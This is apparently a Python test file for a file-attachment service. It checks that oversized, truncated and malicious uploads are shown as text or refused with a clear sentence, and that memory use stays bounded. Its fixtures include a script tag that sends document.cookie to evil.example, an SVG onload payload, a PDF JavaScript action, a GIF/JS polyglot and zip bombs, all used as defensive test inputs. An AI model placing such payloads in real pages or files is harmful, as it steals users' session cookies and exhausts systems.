"""What people attach that is large, broken or made to do harm: each is given in the right way or
refused in a clear sentence, nothing of it is carried out, and the memory that it takes is bounded.
"""

from __future__ import annotations

from typing import Any

import pytest

from console.engine.given_files import lacked, was_given
from console.files import reading
from console.files.reading import pages_of
from console.files.store import path_of
from console.services.attaching import file_bring
from console.services.errors import Refused
from tests.files import making
from tests.files.test_delivery import READS, SEES, SEES_PICTURES, Attached, given, text_of

pytestmark = pytest.mark.django_db

LONG = [f"This is page {n}, and it tells of the weather alone." for n in range(1, 301)]
LONG[289] += " Torricelli had a barometer."
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"


def told(data: bytes, name: str, inputs: Any) -> str:
    """How a seat was given it, or why it could not be brought at all."""
    try:
        file = file_bring(name=name, data=data)
    except Refused as refused:
        return str(refused)
    attached = Attached(file.hash, file.name, file.type, file.read)
    one = given([attached], inputs, "What had Torricelli?", context_length=8_000)
    return " ".join([*was_given(one.told), *lacked(one.told)])


@pytest.mark.parametrize(
    ("name", "make", "inputs", "says"),
    [
        ("long.pdf", lambda: making.pdf(LONG), SEES, "“long.pdf” as text, pages 1–"),
        ("long.pdf", lambda: making.pdf(LONG), READS, " and 290 of 300, which fit"),
        ("scan.pdf", lambda: making.scanned(40), SEES_PICTURES, "of its pages, pages 1–2 of 40"),
        ("scan.pdf", lambda: making.scanned(40), READS, "its pages are pictures, and it takes no"),
        ("12.jpg", lambda: making.picture(4000, 3000, "JPEG"), SEES, "made smaller (2048 × 1536)"),
        ("12.jpg", lambda: making.picture(4000, 3000, "JPEG"), READS, "it takes no pictures"),
        ("400.png", lambda: making.enormous(20_000), SEES, "has 400 megapixels; at most 50"),
        ("cut.pdf", lambda: making.pdf(["Rain"])[:80], SEES, "“cut.pdf” is no PDF that can be"),
        ("cut.png", lambda: making.picture()[:60], SEES, "“cut.png” is no picture that can be"),
        (
            "wide.pdf",
            lambda: making.pdf(["Rain"], box="0 0 9e6 9e6"),
            SEES_PICTURES,
            "its pages",
        ),
        ("flat.pdf", lambda: making.pdf(["Rain"], box="0 0 0 0"), SEES_PICTURES, "its pages"),
        (
            "js.pdf",
            lambda: making.pdf(["Rain"], opens="app.alert(1)"),
            SEES_PICTURES,
            "its pages",
        ),
        ("bomb.docx", lambda: making.bomb("word/document.xml"), READS, "would unpack to 250 MB"),
        ("bomb.xlsx", lambda: making.bomb("xl/worksheets/sheet1.xml"), READS, "would unpack to"),
        ("bomb.pptx", lambda: making.bomb("ppt/slides/slide1.xml"), READS, "would unpack to 250"),
        ("page.png", lambda: making.picture() + SCRIPT, READS, "it takes no pictures"),
        ("gif.js", lambda: b"GIF89a=1;alert(1)//", SEES, "is no picture that can be read"),
        ("pdf.html", lambda: SCRIPT + making.pdf(["Rain"]), SEES, "“pdf.html” as text"),
        ("drawn.svg", lambda: SVG, SEES, "“drawn.svg” as text"),
    ],
)
def test_each_is_given_rightly_or_refused_in_a_sentence(name, make, inputs, says):
    assert says in told(make(), name, inputs)


def test_drawing_pages_may_not_take_all_the_memory_there_is(monkeypatch):
    scan = making.scanned(2)
    brought = file_bring(name="scan.pdf", data=scan)
    monkeypatch.setattr(reading, "MEGABYTES", 40)
    assert pages_of(brought.hash) == []
    assert told(scan, "scan.pdf", SEES_PICTURES).startswith("was not given “scan.pdf”: ")


def test_what_a_browser_would_run_is_a_text_within_its_fence_and_shows_no_picture():
    file = file_bring(name="drawn.svg", data=SVG)
    text = text_of(given([Attached(file.hash, file.name, file.type, file.read)], READS))
    assert SVG.decode() in text and text.startswith("[Attached: text, as text.")
    assert not path_of(file.hash, "thumbnail").exists()


def test_a_pdf_has_its_first_page_as_a_small_picture_beside_it():
    file = file_bring(name="a.pdf", data=making.pdf(["Rain"] * 3))
    assert file.read["has_thumbnail"]
    assert path_of(file.hash, "thumbnail").read_bytes().startswith(b"\xff\xd8\xff")
